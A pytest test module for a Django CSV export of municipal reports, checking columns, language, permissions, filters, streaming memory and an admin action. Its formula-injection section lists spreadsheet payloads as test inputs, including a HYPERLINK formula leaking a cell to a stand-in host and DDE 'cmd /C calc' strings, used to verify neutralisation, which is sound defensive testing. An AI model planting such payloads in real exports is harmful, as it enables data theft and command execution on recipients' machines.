"""CSV export of reports: `GET /api/signalements/export.csv` and the admin action."""

import codecs
import csv
import datetime as dt
import io
import tracemalloc
from decimal import Decimal

import pytest
from django.db import connection
from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, resolve, reverse
from django.utils import timezone
from knox.models import AuthToken

from signalements import exports
from signalements.api.views import SignalementViewSet, export_csv_view
from signalements.models import Priority, Signalement, Status

from .factories import CategoryFactory, SignalementFactory, UserFactory

pytestmark = pytest.mark.django_db

try:
    reverse("signalement-export-csv")
except NoReverseMatch:  # until signalements/api/urls.py routes it
    pytest.skip("/api/signalements/export.csv is not routed yet", allow_module_level=True)

EXPORT_URL = "/api/signalements/export.csv"
LIST_URL = reverse("signalement-list")
CHANGELIST = reverse("admin:signalements_signalement_changelist")

# The documented columns, in order: a change here is a change for every spreadsheet. The
# header row names them so in English (`Accept-Language: en`, what scripts send).
HEADER = [
    "reference",
    "id",
    "created_at",
    "date",
    "status",
    "priority",
    "category",
    "category_code",
    "title",
    "description",
    "address",
    "latitude",
    "longitude",
    "is_public",
    "assigned_to",
    "resolved_at",
    "contact_name",
    "contact_email",
    "contact_phone",
]
# The same columns for people, in French (the default language).
FRENCH_HEADER = [
    "Référence",
    "Identifiant",
    "Date de création",
    "Date de l’incident",
    "Statut",
    "Priorité",
    "Catégorie",
    "Code de la catégorie",
    "Titre",
    "Description",
    "Adresse",
    "Latitude",
    "Longitude",
    "Public",
    "Attribué à",
    "Date de résolution",
    "Nom du contact",
    "Courriel du contact",
    "Téléphone du contact",
]


def body_of(response) -> bytes:
    assert response.status_code == 200, response
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


def parse(body: bytes) -> tuple[list[str], list[dict]]:
    """The header and the rows (as dicts) of a CSV export."""
    assert body.startswith(codecs.BOM_UTF8)
    text = body[len(codecs.BOM_UTF8) :].decode("utf-8")  # strict: must be valid UTF-8
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def exported(client, query: str = "", language: str = "en") -> list[dict]:
    """The rows of an export in `language`, keyed by the columns' names."""
    url = f"{EXPORT_URL}?{query}" if query else EXPORT_URL
    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    header, rows = parse(body_of(response))
    assert header == (HEADER if language == "en" else FRENCH_HEADER)
    return [dict(zip(HEADER, row.values(), strict=True)) for row in rows]


def exported_ids(client, query: str = "") -> list[int]:
    return [int(row["id"]) for row in exported(client, query)]


def listed_ids(client, query: str = "") -> list[int]:
    response = client.get(f"{LIST_URL}?page_size=100&{query}")
    assert response.status_code == 200, response.json()
    assert response.json()["next"] is None
    return [item["id"] for item in response.json()["results"]]


# --- Content ---------------------------------------------------------------------------


@pytest.fixture
def two_reports(agent_user):
    eclairage = CategoryFactory(code="eclairage-public", name="Éclairage public")
    full = SignalementFactory(
        title="Lampadaire éteint",
        description='Éteint depuis trois soirs, "vraiment".\nDeuxième ligne; virgule, fin.',
        category=eclairage,
        status=Status.RESOLVED,
        priority=Priority.URGENT,
        assigned_to=agent_user,
        date=dt.datetime(2025, 4, 29, 14, 30, tzinfo=dt.UTC),
        created_at=dt.datetime(2025, 4, 30, 8, 0, 0, 123456, tzinfo=dt.UTC),
        resolved_at=dt.datetime(2025, 5, 2, 9, 15, tzinfo=dt.UTC),
        latitude=Decimal("48.114700"),
        longitude=Decimal("-1.680100"),
        address="Place Sainte-Anne, 35000 Rennes",
        contact_name="Léa Robert",
        contact_email="lea@example.org",
        contact_phone="06 00 00 00 00",
    )
    bare = SignalementFactory(
        title="",
        description="Sans catégorie ni lieu",
        category=None,
        latitude=None,
        longitude=None,
        address="",
        is_public=False,
        contact_name="",
        contact_email="",
        contact_phone="",
        date=dt.datetime(2025, 1, 10, 12, 0, tzinfo=dt.UTC),
        created_at=dt.datetime(2025, 1, 10, 12, 0, tzinfo=dt.UTC),
    )
    return full, bare


def test_the_export_has_a_header_and_one_row_per_report(agent_client, two_reports):
    full, bare = two_reports

    rows = exported(agent_client)

    assert [int(row["id"]) for row in rows] == [full.pk, bare.pk]  # newest first
    assert rows[0] == {
        "reference": full.reference,
        "id": str(full.pk),
        "created_at": "2025-04-30T10:00:00.123456+02:00",
        "date": "2025-04-29T16:30:00+02:00",
        "status": "Resolved",
        "priority": "Urgent",
        "category": "Éclairage public",
        "category_code": "eclairage-public",
        "title": "Lampadaire éteint",
        "description": 'Éteint depuis trois soirs, "vraiment".\nDeuxième ligne; virgule, fin.',
        "address": "Place Sainte-Anne, 35000 Rennes",
        "latitude": "48.114700",
        "longitude": "-1.680100",
        "is_public": "true",
        "assigned_to": "agent",
        "resolved_at": "2025-05-02T11:15:00+02:00",
        "contact_name": "Léa Robert",
        "contact_email": "lea@example.org",
        "contact_phone": "06 00 00 00 00",
    }
    assert rows[1] == {
        **dict.fromkeys(HEADER, ""),
        "reference": bare.reference,
        "id": str(bare.pk),
        "created_at": "2025-01-10T13:00:00+01:00",
        "date": "2025-01-10T13:00:00+01:00",
        "status": "New",
        "priority": "Normal",
        "description": "Sans catégorie ni lieu",
        "is_public": "false",
    }


def test_dates_and_coordinates_are_the_apis(agent_client, two_reports):
    [api_row] = [r for r in agent_client.get(LIST_URL).json()["results"] if r["category"]]
    [csv_row] = [r for r in exported(agent_client) if r["category_code"]]

    for name in ["reference", "created_at", "date", "resolved_at"]:
        assert csv_row[name] == api_row[name], name
    # The same numbers, with the 6 stored decimals.
    assert (csv_row["latitude"], csv_row["longitude"]) == ("48.114700", "-1.680100")
    assert Decimal(csv_row["latitude"]) == Decimal(str(api_row["latitude"]))
    assert Decimal(csv_row["longitude"]) == Decimal(str(api_row["longitude"]))


@pytest.mark.parametrize("time_zone", ["Europe/Paris", "UTC", "America/Cayenne"])
def test_references_are_the_models(agent_client, settings, time_zone):
    """The reference's year is the creation year in TIME_ZONE: around New Year it
    depends on the time zone."""
    settings.TIME_ZONE = time_zone
    for created_at in ["2024-12-31T22:30:00Z", "2024-12-31T23:30:00Z", "2025-01-01T02:30:00Z"]:
        SignalementFactory(created_at=dt.datetime.fromisoformat(created_at))

    rows = exported(agent_client)

    assert len(rows) == 3
    for row in rows:
        assert row["reference"] == Signalement.objects.get(pk=row["id"]).reference


def test_iso_dates_in_utc_end_with_z(agent_client, two_reports, settings):
    settings.TIME_ZONE = "UTC"

    [row] = [r for r in exported(agent_client) if r["category_code"]]

    assert row["created_at"] == "2025-04-30T08:00:00.123456Z"
    assert row["date"] == "2025-04-29T14:30:00Z"


def test_a_csv_download_with_todays_date_in_its_name(agent_client, two_reports):
    response = agent_client.get(EXPORT_URL, HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    filename = f"signalements-{timezone.localdate():%Y%m%d}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert not response.has_header("Content-Length")
    body = body_of(response)
    # RFC 4180: CRLF after every record, the header's too.
    assert body.startswith(codecs.BOM_UTF8 + ",".join(HEADER).encode() + b"\r\n")
    assert body.endswith(b"\r\n")


def test_the_header_and_the_labels_are_in_french_by_default(agent_client, two_reports):
    full, bare = two_reports

    header, rows = parse(body_of(agent_client.get(EXPORT_URL)))

    assert header == FRENCH_HEADER
    assert [(row["Statut"], row["Priorité"]) for row in rows] == [
        ("Résolu", "Urgente"),
        ("Nouveau", "Normale"),
    ]
    assert rows[0]["Référence"] == full.reference
    # English on request: the names of the columns, the labels in English.
    english = exported(agent_client)
    assert [(row["status"], row["priority"]) for row in english] == [
        ("Resolved", "Urgent"),
        ("New", "Normal"),
    ]


def test_utf8_with_a_bom_so_that_excel_reads_french_text(agent_client, two_reports):
    body = body_of(agent_client.get(EXPORT_URL))

    assert body[:3] == b"\xef\xbb\xbf"
    assert body.count(codecs.BOM_UTF8) == 1
    assert "Éclairage public".encode() in body
    assert "Léa Robert".encode() in body
    assert body.decode("utf-8-sig").count("é") >= 3


def test_an_empty_export_is_a_header(agent_client):
    assert exported(agent_client) == []


# --- Formula injection ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_that_a_spreadsheet_would_evaluate_are_neutralised(agent_client, agent_user, formula):
    agent_user.username = formula[:150]
    agent_user.save()
    SignalementFactory(
        title=formula,
        description=formula,
        address=formula,
        contact_name=formula,
        contact_email=formula,
        contact_phone=formula[:40],
        category=CategoryFactory(code="-voirie", name=formula),
        assigned_to=agent_user,
        latitude=Decimal("-48.100000"),
        longitude=Decimal("-1.680000"),
    )

    [row] = exported(agent_client)

    for name in ["title", "description", "address", "category", "assigned_to"]:
        assert row[name] == "'" + formula, name
    assert row["contact_name"] == row["contact_email"] == "'" + formula
    assert row["contact_phone"] == "'" + formula[:40]
    assert row["category_code"] == "'-voirie"
    # Numbers stay numbers: a negative coordinate is not text to neutralise.
    assert row["latitude"] == "-48.100000"
    assert row["longitude"] == "-1.680000"


@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("", ""),
        ("Lampadaire = éteint", "Lampadaire = éteint"),
        (" =1+1", " =1+1"),
        ("'déjà", "'déjà"),
        ("Panne à 14h-15h", "Panne à 14h-15h"),
    ],
)
def test_neutralize(text, expected):
    assert exports.neutralize(text) == expected


# --- Permissions ---------------------------------------------------------------------


def test_anonymous_callers_must_authenticate(api_client, two_reports):
    response = api_client.get(EXPORT_URL)

    assert response.status_code == 401
    assert response["WWW-Authenticate"] == "Token"
    assert response["Content-Type"] == "application/json"
    assert response.json()["errors"][0]["code"] == "not_authenticated"


def test_a_bad_token_is_a_401(api_client, two_reports):
    response = api_client.get(EXPORT_URL, HTTP_AUTHORIZATION="Token nope")

    assert response.status_code == 401
    assert response.json()["errors"][0]["code"] == "authentication_failed"


def test_reporters_may_not_export(user_client, reporter, two_reports):
    SignalementFactory(reporter=reporter, is_public=False)

    response = user_client.get(EXPORT_URL)

    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"
    assert response.json()["errors"][0]["code"] == "permission_denied"


def test_agents_and_admins_export_every_report(agent_client, superuser_client, two_reports):
    hidden = SignalementFactory(is_public=False, reporter=UserFactory())
    everything = set(Signalement.objects.values_list("id", flat=True))

    assert set(exported_ids(agent_client)) == everything
    assert set(exported_ids(superuser_client)) == everything
    assert hidden.pk in exported_ids(agent_client)


def test_an_agent_with_an_api_token(api_client, agent_user, two_reports):
    _, token = AuthToken.objects.create(user=agent_user)

    response = api_client.get(EXPORT_URL, HTTP_AUTHORIZATION=f"Token {token}")

    assert len(parse(body_of(response))[1]) == 2


def test_the_export_selects_what_the_list_selects_for_the_same_caller(
    agent_client, monkeypatch, two_reports
):
    """The export is scoped by the list's `get_queryset` (not a copy of its rules)."""
    full, _ = two_reports
    original = SignalementViewSet.get_queryset
    monkeypatch.setattr(
        SignalementViewSet,
        "get_queryset",
        lambda self: original(self).filter(is_public=True),
    )

    assert exported_ids(agent_client) == listed_ids(agent_client) == [full.pk]


# --- Same filters as the list --------------------------------------------------------


@pytest.fixture
def many_reports(agent_user):
    voirie = CategoryFactory(code="voirie", name="Voirie")
    eclairage = CategoryFactory(code="eclairage-public", name="Éclairage public")
    base = dt.datetime(2025, 3, 1, 12, 0, tzinfo=dt.UTC)
    statuses, priorities = list(Status), list(Priority)
    reports = []
    for i in range(14):
        reports.append(
            SignalementFactory(
                title="Lampadaire éteint" if i % 3 == 0 else "Nid-de-poule",
                category=[voirie, eclairage, None][i % 3],
                status=statuses[i % len(statuses)],
                priority=priorities[i % len(priorities)],
                is_public=i % 4 != 0,
                date=base + dt.timedelta(days=i),
                # Some reports share a creation time: the id breaks the tie.
                created_at=base + dt.timedelta(days=i // 2, hours=1),
                latitude=None if i % 5 == 0 else Decimal("48.100000") + Decimal(i) / 100,
                longitude=None if i % 5 == 0 else Decimal("-1.700000") + Decimal(i) / 100,
            )
        )
    return reports


@pytest.mark.parametrize(
    "query",
    [
        "",
        "status=new",
        "status=new,resolved",
        "status=new&status=rejected&priority=urgent,high",
        "priority=low",
        "category=voirie",
        "category=voirie,eclairage-public",
        "in_bbox=-1.70,48.10,-1.62,48.18",
        "in_bbox=-1.62,48.18,-1.55,48.30",
        "near=48.15,-1.65&radius=5000",
        "near=48.15,-1.65",
        "search=lampadaire",
        "search=nid poule",
        "date_after=2025-03-05T00:00:00%2B01:00&date_before=2025-03-10T00:00:00Z",
        "created_after=2025-03-03T00:00:00Z",
        "created_before=2025-03-03T00:00:00Z",
        "ordering=priority",
        "ordering=-priority,date",
        "ordering=status",
        "ordering=created_at",
        "ordering=-id",
        "ordering=date&status=acknowledged,in_progress,resolved&in_bbox=-1.70,48.10,-1.60,48.20",
        "status=rejected&category=voirie&search=zzz",
    ],
)
def test_same_reports_in_the_same_order_as_the_list(agent_client, many_reports, query):
    assert exported_ids(agent_client, query) == listed_ids(agent_client, query)


def test_filters_narrow_the_export(agent_client, many_reports):
    assert len(exported_ids(agent_client)) == 14
    assert {row["status"] for row in exported(agent_client, "status=new,rejected")} == {
        "New",
        "Rejected",
    }
    rows = exported(agent_client, "in_bbox=-1.70,48.10,-1.65,48.15")
    assert rows
    for row in rows:
        assert Decimal("48.10") <= Decimal(row["latitude"]) <= Decimal("48.15")
        assert Decimal("-1.70") <= Decimal(row["longitude"]) <= Decimal("-1.65")


def test_pagination_parameters_do_not_apply(agent_client, many_reports):
    assert len(exported_ids(agent_client, "page_size=2&page=3")) == 14


@pytest.mark.parametrize(
    "query, attr, code",
    [
        ("status=bogus", "status", "invalid_choice"),
        ("priority=new", "priority", "invalid_choice"),
        ("category=pas%20un%20code", "category", "invalid_code"),
        ("in_bbox=1,2", "in_bbox", "format"),
        ("in_bbox=200,0,10,10", "in_bbox", "range"),
        ("in_bbox=10,10,0,0", "in_bbox", "order"),
        ("near=48.1", "near", "format"),
        ("radius=100", "radius", "near_required"),
        ("near=48.1,-1.6&radius=-1", "radius", "min_value"),
        ("date_after=hier", "date_after", "invalid"),
        ("created_before=0001-01-01T00:00:00%2B05:00", "created_before", "overflow"),
        ("ordering=title", "ordering", "invalid_choice"),
        ("search=a%00b", "search", "null_characters_not_allowed"),
    ],
)
def test_an_invalid_filter_is_the_lists_400(agent_client, many_reports, query, attr, code):
    for accept in ["*/*", "text/csv", "application/json"]:
        response = agent_client.get(f"{EXPORT_URL}?{query}", HTTP_ACCEPT=accept)

        assert response.status_code == 400, response
        assert not response.streaming
        assert response["Content-Type"] == "application/json"
        body = response.json()
        assert body["type"] == "validation_error"
        assert (attr, code) in {(error["attr"], error["code"]) for error in body["errors"]}
    # The list refuses it the same way.
    listed = agent_client.get(f"{LIST_URL}?{query}").json()
    assert listed["errors"] == body["errors"]


def test_permissions_are_checked_before_filters(api_client, user_client):
    assert api_client.get(f"{EXPORT_URL}?status=bogus").status_code == 401
    assert user_client.get(f"{EXPORT_URL}?status=bogus").status_code == 403


# --- Route, methods, schema ----------------------------------------------------------


def test_the_route_is_exactly_export_csv_without_a_trailing_slash(agent_client, two_reports):
    assert reverse("signalement-export-csv") == EXPORT_URL
    assert resolve(EXPORT_URL).func is export_csv_view
    # Not taken for the report `export` in CSV format by the router's format-suffix route.
    assert agent_client.get(EXPORT_URL, HTTP_ACCEPT="text/csv").status_code == 200
    assert agent_client.get(EXPORT_URL + "/").status_code == 404
    # The report routes still work, format suffix included.
    full, _ = two_reports
    assert agent_client.get(f"{LIST_URL}{full.pk}/").status_code == 200
    assert agent_client.get(f"{LIST_URL}{full.pk}.json").json()["id"] == full.pk


def test_other_methods_are_a_405(agent_client):
    for method in ["post", "put", "patch", "delete"]:
        response = getattr(agent_client, method)(EXPORT_URL)

        assert response.status_code == 405, method
        assert response["Allow"] == "GET, HEAD, OPTIONS"
        assert response.json()["errors"][0]["code"] == "method_not_allowed"


def test_the_schema_documents_the_export(api_client):
    schema = api_client.get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"][EXPORT_URL]["get"]

    assert operation["operationId"] == "signalements_export_csv"
    assert list(operation["responses"]["200"]["content"]) == ["text/csv"]
    assert operation["responses"]["200"]["content"]["text/csv"]["schema"] == {"type": "string"}
    assert "Content-Disposition" in operation["responses"]["200"]["headers"]
    assert {"400", "401", "403"} <= set(operation["responses"])
    assert list(operation["responses"]["400"]["content"]) == ["application/json"]
    assert {} not in operation["security"]
    listed = schema["paths"][LIST_URL]["get"]["parameters"]
    filters = {p["name"] for p in listed} - {"page", "page_size", "cursor", "count", "format"}
    assert {p["name"] for p in operation["parameters"]} == filters


# --- Constant memory -----------------------------------------------------------------

MANY = 100_000
SEED = 1_000


def create_many_reports(count: int, **fields) -> None:
    """`count` reports, fast: SEED of them with `bulk_create`, then copies of those in
    SQL (`bulk_create` alone spends 12 to 16 s in Django's per-field code on 100,000
    reports, which is most of this test's time budget)."""
    now = timezone.now()
    Signalement.objects.bulk_create(
        Signalement(
            description=f"Signalement de charge n°{i} : " + "lampadaire éteint, " * 12,
            date=now,
            created_at=now - dt.timedelta(seconds=i),
            **fields,
        )
        for i in range(SEED)
    )
    qn = connection.ops.quote_name
    columns = ", ".join(
        qn(field.column)
        for field in Signalement._meta.concrete_fields
        if field.name not in ("id", "uuid")
    )
    new_uuid = {"sqlite": "lower(hex(randomblob(16)))", "postgresql": "gen_random_uuid()"}
    table = qn(Signalement._meta.db_table)
    copy = (
        f"INSERT INTO {table} ({columns}, {qn('uuid')}) "
        f"SELECT {columns}, {new_uuid[connection.vendor]} FROM {table} WHERE {qn('id')} <= %s"
    )
    last_seed = Signalement.objects.order_by("-id").values_list("id", flat=True)[0]
    with connection.cursor() as cursor:
        for _ in range(count // SEED - 1):
            cursor.execute(copy, [last_seed])
    assert Signalement.objects.count() == count


def test_a_large_export_streams_in_constant_memory(agent_client):
    """100,000 reports go out in pieces, read by chunks: at any time a few chunks are
    in memory, a fraction of the file (which materialising the rows would exceed)."""
    create_many_reports(
        MANY,
        title="Lampadaire éteint",
        category=CategoryFactory(code="voirie", name="Voirie"),
        assigned_to=UserFactory(username="équipe-nord"),
        latitude=Decimal("48.111000"),
        longitude=Decimal("-1.680000"),
        address="Rue de Brest, 35000 Rennes",
        contact_email="habitant@example.org",
    )

    tracemalloc.start()
    try:
        with CaptureQueriesContext(connection) as queries:
            response = agent_client.get(EXPORT_URL)
            assert response.status_code == 200
            assert isinstance(response, StreamingHttpResponse)
            lines = size = pieces = largest = 0
            for piece in response.streaming_content:
                lines += piece.count(b"\r\n")
                size += len(piece)
                pieces += 1
                largest = max(largest, len(piece))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert lines == MANY + 1  # the header and every report
    assert pieces > 100 and largest < 1_000_000
    # One query for the rows (and one for the caller's role), not one per report.
    assert len(queries) <= 3, [query["sql"] for query in queries]
    # The file is over 40 MB; a few chunks of 2,000 rows take a few MB.
    assert size > 40_000_000
    assert peak < 10_000_000, f"peak {peak:,} bytes for a {size:,} byte file"


def test_the_rows_are_read_in_chunks(agent_client, two_reports, monkeypatch):
    calls = []
    original = QuerySet.iterator

    def spy(queryset, chunk_size=None):
        calls.append(chunk_size)
        return original(queryset, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)

    assert len(exported(agent_client)) == 2
    assert calls == [exports.CHUNK_SIZE]


# --- Admin action --------------------------------------------------------------------


def test_the_admin_action_exports_the_selected_reports(
    client, agent_user, agent_client, many_reports
):
    client.force_login(agent_user)
    assert 'value="export_csv"' in client.get(CHANGELIST).content.decode()
    selected = [many_reports[1], many_reports[4], many_reports[9]]

    response = client.post(
        CHANGELIST,
        {"action": "export_csv", "_selected_action": [report.pk for report in selected]},
    )

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="signalements-')
    header, rows = parse(body_of(response))
    assert header == FRENCH_HEADER  # the admin's language
    rows = [dict(zip(HEADER, row.values(), strict=True)) for row in rows]
    # In the change list's order (newest first), with the API export's rows.
    expected = sorted(selected, key=lambda r: (r.created_at, r.pk), reverse=True)
    assert [int(row["id"]) for row in rows] == [report.pk for report in expected]
    api_rows = {row["id"]: row for row in exported(agent_client, language="fr")}
    assert rows == [api_rows[row["id"]] for row in rows]


def test_the_admin_action_follows_the_change_list_filters(admin_client, many_reports):
    response = admin_client.post(
        f"{CHANGELIST}?status__exact=new",
        {"action": "export_csv", "select_across": "1", "_selected_action": [1], "index": 0},
    )

    _, rows = parse(body_of(response))
    expected = Signalement.objects.filter(status=Status.NEW).count()
    assert expected and len(rows) == expected
    assert {row["Statut"] for row in rows} == {"Nouveau"}


def test_the_admin_action_needs_the_view_permission(client, many_reports):
    clerk = UserFactory(username="clerk", is_staff=True)
    client.force_login(clerk)

    response = client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [many_reports[0].pk]}
    )

    assert response.status_code == 403
